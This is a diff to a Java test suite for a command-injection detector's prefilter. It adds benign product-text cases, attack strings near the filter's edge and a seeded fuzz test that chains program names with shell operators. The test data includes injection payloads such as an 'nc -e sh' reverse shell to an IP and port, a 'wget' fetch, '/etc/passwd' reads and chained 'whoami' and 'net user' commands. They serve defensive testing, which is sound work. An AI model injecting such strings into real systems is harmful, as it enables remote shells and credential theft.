@@ -23,7 +23,10 @@ class CmdiPrefilterTest {
       // a command word in argument position, before any separator: "at", "time", "sort"
       "Machine washable at 30 degrees; dry flat. Recycled polyester upper (65%), rubber outsole.",
       "Size 42 (EU), at the time of order, sort by colour; thanks", "Size 9; ring at the time of delivery",
-      "Recycled polyester (65%), for long distances"})
+      "Recycled polyester (65%), for long distances",
+      // a program name after a separator, outside a command position, without a strong argument
+      "Leak-proof lid with carry loop; fits most cup holders. Dishwasher safe (lid: top rack only).",
+      "Pack of two; the top one", "loop; at the top"})
   void mayMatch_ordinaryValues_skipsThem(String v) {
     PrefilterEdges.skips(detector, v);
   }
@@ -33,7 +36,8 @@ class CmdiPrefilterTest {
       "!-1!-2", "~+", "cat+/etc/passwd", "FOR %i IN (a) DO x", "IF EXIST x y", "g++ -o x y.c",
       // command positions and operators the scan must see as the shell lexer does
       "x;}.uname", "x\n}*kill", "/}*/usr/bin/id", "(whoami)", "a>(id)", "a&id", "a||id", "a\rid",
-      "note; then whoami", "if defined x y", "IF ERRORLEVEL 1 x", "if 1 GEQ 2 x", "if 1 LSS 2 x", "x; sort ; nc -e sh 1.2.3.4 4444", "a & b ; wget http://x"})
+      "note; then whoami", "if defined x y", "IF ERRORLEVEL 1 x", "if 1 GEQ 2 x", "if 1 LSS 2 x", "x; sort ; nc -e sh 1.2.3.4 4444", "a & b ; wget http://x",
+      "lid; a top -b", "x; so ping 10.0.0.1", "note; so net user x", "a; b tail whoami", "a; b tail /etc/x"})
   void mayMatch_attacksNearTheFilterEdge_passesThem(String v) {
     PrefilterEdges.passes(detector, v);
   }
@@ -72,5 +76,38 @@ class CmdiPrefilterTest {
       }
     }
     assertThat(findings).as("the generator makes attacks").isGreaterThan(10_000);
+  }
+
+  /** Prose words, program names and the arguments that make them strong, after an operator. */
+  private static final String[] CHAIN_WORDS = {"rack", "only", "lid:", "fits", "top", "tail", "head", "ping",
+      "net", "reg", "user", "add", "query", "whoami", "Uname", "1.2.3.4", "10.0.0", "12", "a_b", "c,d", "x-y",
+      "v1.2", "-n", "--all", "/etc", "~/x", "http://x", "c:x", "x=/y", "%a%", "%a", "Sort", "ls", "time", "at",
+      "id", "sleep", "(a)", "sh", "nc", "curl", "tee"};
+  private static final String[] CHAIN_GLUE = {" ", " ", " ", "  ", "\t", "; ", ";", " | ", "|", "&", "&&",
+      ")", " (", "(", ".", ", ", ":", "/", "=", "+", "\n", " #", ">", "<", "}", "\f", "-", "%", "@", "!"};
+
+  /**
+   * Program names after a separator but outside a command position ({@code ; fits most cup holders
+   * (lid: top rack only)}) need a strong argument to fire: the filter's reading of the next token, checked.
+   */
+  @Test
+  void mayMatch_randomProgramAfterOperator_neverHidesAFinding() {
+    Random r = new Random(11);
+    int findings = 0;
+    for (int k = 0; k < 60_000; k++) {
+      StringBuilder sb = new StringBuilder();
+      for (int j = 0, len = 2 + r.nextInt(7); j < len; j++) {
+        sb.append(CHAIN_WORDS[r.nextInt(CHAIN_WORDS.length)]);
+        if (j < len - 1 || r.nextInt(3) == 0) {
+          sb.append(CHAIN_GLUE[r.nextInt(CHAIN_GLUE.length)]);
+        }
+      }
+      Input in = Input.value(Source.QUERY, "q", sb.toString());
+      if (detector.inspect(in).isPresent()) {
+        findings++;
+        assertThat(detector.mayMatch(in, CharMask.of(in.text()))).as("%s", in.text()).isTrue();
+      }
+    }
+    assertThat(findings).as("the generator makes attacks").isGreaterThan(5_000);
   }
 }
